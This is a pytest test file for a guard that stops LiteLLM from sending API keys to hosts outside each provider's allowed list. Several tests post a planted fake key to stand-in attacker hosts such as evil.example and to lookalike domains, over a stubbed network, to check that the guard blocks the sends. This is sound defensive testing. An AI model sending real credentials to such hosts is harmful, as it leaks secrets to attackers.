"""The guard that keeps LiteLLM from sending keys to other servers."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from dataclasses import replace
from typing import Any

import httpx
import pytest

from tests.engine.listening import LITELLM
from workbench.core.lanes import Endpoint
from workbench.core.providers import PROVIDERS
from workbench.engine.calls import Call
from workbench.engine.child import key_guard
from workbench.engine.child.failures import FailureSubject
from workbench.engine.child.key_guard import KeyHeldBackError, guarded
from workbench.engine.child.litellm_failures import failure_of

KEY = "sk-planted-0123456789"


@pytest.fixture(autouse=True)
def _installed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Install the guard in front of a network stub that answers everything."""

    def answer(self: object, request: httpx.Request, **_: object) -> httpx.Response:
        return httpx.Response(200, request=request)

    async def answer_later(self: object, request: httpx.Request, **_: object) -> httpx.Response:
        return httpx.Response(200, request=request)

    monkeypatch.setattr(httpx.Client, "send", answer)
    monkeypatch.setattr(httpx.AsyncClient, "send", answer_later)
    key_guard.install()


def call(base_url: str = "", model: str = "m") -> Call:
    endpoint = Endpoint("litellm", "litellm", "LiteLLM", base_url) if base_url else LITELLM
    return Call("c", endpoint, model, (), key=KEY)


@pytest.mark.parametrize(
    "url",
    [
        "https://inference.baseten.co/v1/chat/completions",
        "https://model-abc.api.baseten.co/environments/production/sync",
    ],
)
def test_key_is_sent_to_the_hosts_of_its_provider(url: str) -> None:
    with guarded(call(), "baseten"):
        assert httpx.post(url, headers={"authorization": f"Bearer {KEY}"}).status_code == 200


@pytest.mark.parametrize(
    ("provider", "url"),
    [
        # Names under these domains can be rented by anybody.
        ("dashscope", "https://my-bucket.oss-cn-hangzhou.aliyuncs.com/"),
        ("volcengine", "https://mine.volces.com/"),
        ("github", "https://mine.azure.com/"),
        ("baseten", "https://evil.baseten.co/"),
        ("baseten", "https://model-x.y.api.baseten.co/"),
        ("llamafile", "http://10.2.0.1:8080/v1"),
        ("llamafile", "http://127.0.0.1:9/v1"),
        ("openai", "http://api.openai.com/v1"),
        ("openai", "https://api.openai.com:8443/v1"),
        ("openai", "https://files.openai.com/v1"),
        ("bedrock", "https://evil.example/model/x/converse"),
        ("bedrock", "https://bedrock-runtime.us-east-1.amazonaws.com.evil.example/"),
        ("bedrock", "http://bedrock-runtime.us-east-1.amazonaws.com/"),
        ("bedrock", "https://s3.us-east-1.amazonaws.com/bucket"),
        ("snowflake", "https://theirs.snowflakecomputing.com/api/v2"),
        ("sap", "https://evil.example/v2"),
        ("", "https://api.openai.com/v1"),
        ("unknown-provider", "https://api.openai.com/v1"),
    ],
)
def test_key_is_held_back_from_hosts_not_in_the_table(provider: str, url: str) -> None:
    asked = replace(call(), settings=(("account_id", "mine"),))
    with guarded(asked, provider), pytest.raises(KeyHeldBackError):
        httpx.post(url, headers={"authorization": f"Bearer {KEY}"})


@pytest.mark.parametrize(
    ("provider", "url"),
    [
        ("bedrock", "https://bedrock-runtime.eu-central-1.amazonaws.com/model/x/converse"),
        ("vertex_ai", "https://us-central1-aiplatform.googleapis.com/v1/projects/p"),
        ("vertex_ai", "https://aiplatform.eu.rep.googleapis.com/v1/projects/p"),
        ("snowflake", "https://mine.snowflakecomputing.com/api/v2"),
        ("gigachat", "https://ngw.devices.sberbank.ru:9443/api/v2/oauth"),
        ("gigachat", "https://tokens.example/oauth"),
        ("ollama", "http://localhost:11434/api/chat"),
    ],
)
def test_key_is_sent_to_hosts_that_litellm_derives_from_settings(provider: str, url: str) -> None:
    settings = (("account_id", "mine"), ("gigachat_auth_url", "https://tokens.example/oauth"))
    with guarded(replace(call(), settings=settings), provider):
        assert httpx.post(url, headers={"authorization": f"Bearer {KEY}"}).status_code == 200


@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key", "api-key", "x-goog-api-key", "X-Amz-Security-Token"])
def test_credential_headers_added_by_libraries_are_held_back(header: str) -> None:
    """A call that found its credentials on the machine has no secret that is known here."""
    with guarded(replace(call(), key=""), "bedrock"):
        assert httpx.get("https://elsewhere.example/").status_code == 200
        with pytest.raises(KeyHeldBackError):
            httpx.post("https://elsewhere.example/", headers={header: "AWS4-HMAC-SHA256 …".encode()})


@pytest.mark.parametrize(
    "url",
    ["https://model-x.evil.example/.api.baseten.co/", "https://baseten.co.evil.example/", "https://api.openai.com/v1"],
)
def test_key_is_held_back_from_host_named_in_model_id(url: str) -> None:
    with guarded(call(), "baseten"), pytest.raises(KeyHeldBackError, match="a key for another address") as caught:
        httpx.post(url, headers={"authorization": f"Bearer {KEY}"})
    assert KEY not in str(caught.value)


@pytest.mark.parametrize(
    "asked",
    [
        {"headers": {"x-api-key": KEY}},
        {"json": {"key": KEY}},
        {"params": {"key": KEY}},
    ],
    ids=["header", "body", "address"],
)
def test_key_is_held_back_in_header_body_and_query(asked: dict[str, Any]) -> None:
    with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError):
        httpx.post("https://evil.example/", **asked)


def test_configured_address_is_the_only_host_that_gets_the_key() -> None:
    with guarded(call("https://gateway.example/v1"), "openai"):
        assert httpx.post("https://gateway.example/v1/x", headers={"authorization": KEY}).status_code == 200
        with pytest.raises(KeyHeldBackError):
            httpx.post("https://api.openai.com/v1/x", headers={"authorization": KEY})


def test_requests_without_key_are_allowed_to_any_host() -> None:
    with guarded(call(), "openai"):
        assert httpx.get("https://elsewhere.example/").status_code == 200


async def _ask() -> None:
    async with httpx.AsyncClient() as client:
        with guarded(call(), "openai"), pytest.raises(KeyHeldBackError):
            await client.post("https://evil.example", headers={"authorization": KEY})


def test_async_requests_are_held_back_too() -> None:
    asyncio.run(_ask())


def test_key_is_sent_to_the_token_server_of_its_provider() -> None:
    with guarded(call("https://us-south.ml.cloud.ibm.com"), "watsonx"):
        assert httpx.post("https://iam.cloud.ibm.com/identity/token", data={"apikey": KEY}).status_code == 200


def test_endpoint_key_is_sent_only_to_token_server_of_its_own_provider() -> None:
    """A history that names another protocol would send the key to the token server of that."""
    mine = Endpoint("e", "litellm", "Mine", "https://gateway.example/v1", provider="gigachat")
    token_server = "https://ngw.devices.sberbank.ru:9443/api/v2/oauth"
    with guarded(Call("c", mine, "m", (), key=KEY), "gigachat"), pytest.raises(KeyHeldBackError):
        httpx.post(token_server, headers={"authorization": f"Basic {KEY}"})
    theirs = replace(mine, base_url="https://gigachat.devices.sberbank.ru/api/v1")
    with guarded(Call("c", theirs, "m", (), key=KEY), "gigachat"):
        assert httpx.post(token_server, headers={"authorization": f"Basic {KEY}"}).status_code == 200


def test_held_back_key_is_reported_as_bad_address() -> None:
    with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError) as caught:
        httpx.post("https://evil.example", headers={"authorization": KEY})
    # The form in which LiteLLM passes it on.
    wrapped = Exception(f"litellm.APIConnectionError: OpenAIException - {caught.value}")
    failure = failure_of(wrapped, FailureSubject("OpenAI", "gpt-5"), has_text=False).failure
    assert failure.code == "bad_address"
    assert "to another server" in failure.sentence


@pytest.mark.deep(only=True)
def test_keys_are_held_back_only_for_providers_without_address(figure: Any) -> None:
    env = {**os.environ, "AWS_EC2_METADATA_DISABLED": "true", "LITELLM_LOCAL_MODEL_COST_MAP": "True"}
    probe = [sys.executable, "-m", "tests.engine.key_hosts_probe"]
    told = subprocess.run(probe, capture_output=True, env=env, check=True, text=True).stdout
    held_back: dict[str, str] = json.loads(told.splitlines()[-1])
    figure(f"Keys held back of {len(PROVIDERS)} providers: {sorted(held_back)}")
    # Without an address LiteLLM sends the requests of these providers to OpenAI.
    assert held_back.keys() == {"ai21", "hosted_vllm", "litellm_proxy", "lm_studio", "xinference"}
